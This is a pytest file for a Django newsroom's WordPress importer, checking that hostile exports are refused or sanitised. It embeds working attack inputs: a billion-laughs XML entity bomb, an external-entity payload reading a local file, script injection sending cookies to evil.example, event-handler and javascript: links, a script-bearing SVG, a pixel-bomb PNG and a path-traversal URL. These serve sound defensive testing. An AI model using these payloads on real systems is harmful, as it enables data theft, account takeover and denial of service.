"""
Exports made to hurt: entities that would expand to gigabytes or read local files, scripts in posts,
and files that are not the pictures they claim to be. Each is refused, or cleaned, and said so.
"""

from pathlib import Path

import pytest
from django.core.management import CommandError
from django.test import Client

from articles.models import Article
from importer.models import WordPressOrigin
from media.models import Image
from tests.media.pictures import SVG_WITH_SCRIPT, declared_size_png

from .exports import drawn_picture, item, place_in_uploads, run_import, write_export

pytestmark = pytest.mark.django_db

BILLION_LAUGHS = """<?xml version="1.0"?>
<!DOCTYPE rss [
  <!ENTITY lol "lol">
  <!ENTITY lol1 "&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;">
  <!ENTITY lol2 "&lol1;&lol1;&lol1;&lol1;&lol1;&lol1;&lol1;&lol1;&lol1;&lol1;">
  <!ENTITY lol3 "&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;">
]>
<rss version="2.0"><channel><title>&lol3;</title><item><title>&lol3;</title></item></channel></rss>
"""

EXTERNAL_ENTITY = """<?xml version="1.0"?>
<!DOCTYPE rss [<!ENTITY secret SYSTEM "file://{path}">]>
<rss version="2.0" xmlns:content="http://purl.org/rss/1.0/modules/content/"
 xmlns:wp="http://wordpress.org/export/1.2/">
<channel><title>Leak</title>
<item><title>Leak</title><content:encoded>&secret;</content:encoded><wp:post_id>1</wp:post_id>
<wp:post_type>post</wp:post_type><wp:status>publish</wp:status></item>
</channel></rss>
"""

ENTITIES_REFUSED = (
    "The export declares XML entities or external references; the importer never expands them. "
    "Export the site again from WordPress (Tools › Export). Nothing was imported."
)


def test_an_entity_bomb_is_refused_before_anything_is_written(tmp_path):
    export = tmp_path / "laughs.xml"
    export.write_text(BILLION_LAUGHS)

    with pytest.raises(CommandError) as refused:
        run_import(export)

    assert str(refused.value) == f"laughs.xml: {ENTITIES_REFUSED}"
    assert not Article.objects.exists()
    assert not WordPressOrigin.objects.exists()


def test_an_external_entity_is_never_read(tmp_path):
    secret = tmp_path / "secret.txt"
    secret.write_text("the newsroom's secret")
    export = tmp_path / "leak.xml"
    export.write_text(EXTERNAL_ENTITY.format(path=secret))

    with pytest.raises(CommandError) as refused:
        run_import(export)

    assert str(refused.value) == f"leak.xml: {ENTITIES_REFUSED}"
    assert not Article.objects.exists()


def test_scripts_and_handlers_in_posts_never_reach_readers(tmp_path):
    content = (
        "<p>Before.<script>document.location='https://evil.example/?'+document.cookie</script></p>\n\n"
        '<p><a href="javascript:alert(1)">Click</a> <img src="x" onerror="alert(2)"> '
        '<b onclick="alert(3)">bold</b></p>\n\n'
        '<iframe src="https://evil.example/frame"></iframe>\n\n'
        "<style>body{display:none}</style><p>After.</p>"
    )
    export = write_export(tmp_path / "site.xml", item(1, "Hostile markup", content))

    output = run_import(export)

    story = Article.objects.get()
    assert story.body == (
        '<p>Before.</p><p><a rel="noopener noreferrer">Click</a>  <strong>bold</strong></p>'
        '<p><a href="https://evil.example/frame" rel="noopener noreferrer">https://evil.example/frame</a></p>'
        "<p>After.</p>"
    )
    assert "Left out of bodies: script (1)" in output
    assert "Left out of bodies: style (1)" in output
    assert "Turned into links in bodies: iframe (1)" in output
    page = Client().get(story.get_absolute_url()).content.decode()
    assert "evil.example/?" not in page
    assert "alert(" not in page


def test_files_that_are_not_pictures_are_refused_as_the_desks_uploads_are(tmp_path):
    uploads = tmp_path / "wp-uploads"
    files = {
        "https://news.example/wp-content/uploads/2019/04/logo.jpg": SVG_WITH_SCRIPT,
        "https://news.example/wp-content/uploads/2019/04/huge.png": declared_size_png(60_000, 60_000),
        "https://news.example/wp-content/uploads/2019/04/fine.jpg": drawn_picture(),
    }
    for url, data in files.items():
        place_in_uploads(uploads, url, data)
    attachments = [
        item(10 + number, f"File {number}", post_type="attachment", status="inherit", attachment_url=url)
        for number, url in enumerate(files)
    ]
    export = write_export(tmp_path / "site.xml", *attachments)

    output = run_import(export, "--uploads", str(uploads))

    assert "Pictures: 1 created, 2 skipped." in output
    assert "Files the library refused: This file is SVG or HTML, not a picture, whatever its name says." in output
    assert "Files the library refused: This picture claims more pixels than the library takes" in output
    assert Image.objects.get().title == "File 2"


def test_a_file_outside_the_uploads_copy_is_never_taken(tmp_path):
    uploads = tmp_path / "wp-uploads"
    uploads.mkdir()
    (tmp_path / "private.jpg").write_bytes(drawn_picture())
    climbing = "https://news.example/wp-content/uploads/../private.jpg"
    export = write_export(
        tmp_path / "site.xml", item(10, "Climber", post_type="attachment", status="inherit", attachment_url=climbing)
    )

    output = run_import(export, "--uploads", str(uploads))

    assert "Picture files not found (stories import without them) (1): attachment 10" in output
    assert not Image.objects.exists()
    assert Path(tmp_path / "private.jpg").exists()
